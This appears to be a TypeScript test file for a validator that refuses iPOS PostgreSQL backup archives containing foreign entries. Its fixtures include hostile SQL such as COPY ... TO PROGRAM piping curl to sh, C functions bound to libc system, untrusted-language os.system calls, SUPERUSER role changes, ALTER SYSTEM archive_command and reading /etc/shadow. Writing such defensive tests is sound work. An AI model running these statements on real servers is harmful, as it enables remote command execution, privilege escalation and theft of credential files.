import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readArchive, type TocEntry } from '../../src/pipeline/archive/archive-reader.ts';
import { foreignEntries, refuseForeignEntries } from '../../src/pipeline/archive/foreign-entries.ts';
import { isAppError } from '../../src/errors.ts';
import { DEMO_ARCHIVE } from '../fixtures/shared-fixture.ts';

let nextId = 1;
const entry = (desc: string, tag: string, defn: string, namespace: string | null = 'public'): TocEntry => ({
  dumpId: nextId++, hadDumper: false, desc, section: 'pre-data', namespace, tag, owner: 'sysi5adm', tableAm: null, dependencies: [],
  defn, copyStmt: null, dataState: 'no-data', dataOffset: null, dataLength: null,
});
const fn = (tag: string, body: string, language = 'plpgsql') =>
  entry('FUNCTION', tag, `CREATE FUNCTION public.${tag} RETURNS boolean\n    LANGUAGE ${language}\n    AS $$${body}$$;\n`);
const found = (...entries: TocEntry[]) => foreignEntries({ entries }).map((f) => `${f.entry}: ${f.reason}`);

test('what iPOS backups hold passes: plpgsql (extension, comment, pre-9.1 language), plpgsql and sql functions, triggers, grants', () => {
  assert.deepEqual(found(
    entry('EXTENSION', 'plpgsql', 'CREATE EXTENSION IF NOT EXISTS plpgsql WITH SCHEMA pg_catalog;\n', null),
    entry('COMMENT', 'EXTENSION plpgsql', "COMMENT ON EXTENSION plpgsql IS 'PL/pgSQL procedural language';\n", null),
    entry('PROCEDURAL LANGUAGE', 'plpgsql', 'CREATE PROCEDURAL LANGUAGE plpgsql;\n', null),
    fn('touch()', 'BEGIN NEW.dateupd := now(); RETURN NEW; END'),
    fn('total(numeric)', 'SELECT $1 * 2', 'sql'),
    entry('TRIGGER', 'tbl_item items_touch', 'CREATE TRIGGER items_touch BEFORE UPDATE ON public.tbl_item FOR EACH ROW EXECUTE PROCEDURE public.touch();\n'),
    entry('COMMENT', 'TABLE tbl_item', "COMMENT ON TABLE public.tbl_item IS 'barang dari program kasir; copy to the program later';\n"),
    entry('ACL', 'SCHEMA public', 'REVOKE ALL ON SCHEMA public FROM PUBLIC;\nGRANT ALL ON SCHEMA public TO sysi5adm;\n', null),
    entry('DATABASE PROPERTIES', 'i5', "ALTER ROLE sysi5adm IN DATABASE i5 SET search_path = public;\n", null),
  ), []);
});

test('a real archive (the demo store) holds nothing foreign', async () => {
  assert.deepEqual(foreignEntries(await readArchive(DEMO_ARCHIVE)), []);
});

test('COPY ... PROGRAM in any case and spacing, in a function or any other entry, is found', () => {
  assert.deepEqual(found(
    fn('a()', "COPY (SELECT 1) TO PROGRAM 'touch /tmp/x'; RETURN true;"),
    fn('b()', "copy t from\n\t  program 'curl http://x | sh'; RETURN true;"),
    entry('TABLE', 'tbl_x', "CREATE TABLE public.tbl_x (a int);\nCoPy (select 1) To   ProGram 'id';\n"),
  ), [
    'FUNCTION public.a(): SQL that runs a program on the server (COPY ... PROGRAM)',
    'FUNCTION public.b(): SQL that runs a program on the server (COPY ... PROGRAM)',
    'TABLE public.tbl_x: SQL that runs a program on the server (COPY ... PROGRAM)',
  ]);
});

test('untrusted or C languages, other extensions, event triggers, role and system statements are found', () => {
  assert.deepEqual(found(
    fn('py()', 'import os; os.system("id")', 'plpython3u'),
    fn('perl()', 'system("id")', 'plperlu'),
    entry('FUNCTION', 'sys(cstring)', "CREATE FUNCTION public.sys(cstring) RETURNS integer\n    LANGUAGE c STRICT\n    AS '/lib/x86_64-linux-gnu/libc.so.6', 'system';\n"),
    entry('FUNCTION', 'i(oid)', "CREATE FUNCTION public.i(oid) RETURNS text\n    LANGUAGE internal\n    AS 'pg_read_file';\n"),
    entry('EXTENSION', 'dblink', 'CREATE EXTENSION IF NOT EXISTS dblink WITH SCHEMA public;\n'),
    entry('PROCEDURAL LANGUAGE', 'plperlu', 'CREATE OR REPLACE PROCEDURAL LANGUAGE plperlu;\n', null),
    entry('EVENT TRIGGER', 'grab', 'CREATE EVENT TRIGGER grab ON ddl_command_start EXECUTE FUNCTION public.a();\n', null),
    fn('r()', 'BEGIN ALTER ROLE current_user SUPERUSER; RETURN true; END'),
    entry('TABLE', 't', "CREATE TABLE public.t (a int);\nALTER SYSTEM SET archive_command = 'sh -c id';\n"),
    fn('s()', "BEGIN SET SESSION AUTHORIZATION postgres; SET LOCAL ROLE postgres; RETURN true; END"),
    fn('f()', "BEGIN PERFORM pg_read_file('/etc/shadow'); RETURN true; END"),
  ), [
    'FUNCTION public.py(): a function in language plpython3u (iPOS uses plpgsql and sql only)',
    'FUNCTION public.perl(): a function in language plperlu (iPOS uses plpgsql and sql only)',
    'FUNCTION public.sys(cstring): a function in language c (iPOS uses plpgsql and sql only)',
    'FUNCTION public.i(oid): a function in language internal (iPOS uses plpgsql and sql only)',
    'EXTENSION dblink: an extension (iPOS uses none but plpgsql)',
    'PROCEDURAL LANGUAGE plperlu: a procedural language other than plpgsql',
    'EVENT TRIGGER grab: an event trigger (it would run on every later statement)',
    'FUNCTION public.r(): SQL that creates or changes database roles',
    "TABLE public.t: SQL that changes the server's configuration (ALTER SYSTEM)",
    'FUNCTION public.s(): SQL that switches to another role',
    "FUNCTION public.f(): SQL that reads or writes the server's files",
  ]);
});

test('the refusal names the entries, says the file is refused and the previous list stays', () => {
  const entries = [fn('a()', "COPY (SELECT 1) TO PROGRAM 'id';"), ...['b()', 'c()', 'd()'].map((t) => fn(t, 'x', 'plperlu'))];
  assert.throws(() => refuseForeignEntries({ file: '/data/work/toko/backup.i5bu', entries }), (err) => isAppError(err) && err.kind === 'corrupt' && err.system === 'backup-file'
    && err.message.startsWith('backup.i5bu is refused: it holds what an iPOS backup never has — FUNCTION public.a(): SQL that runs a program on the server')
    && err.message.includes('(and 1 more)') && err.message.includes('the previous price list stays in use'));
});
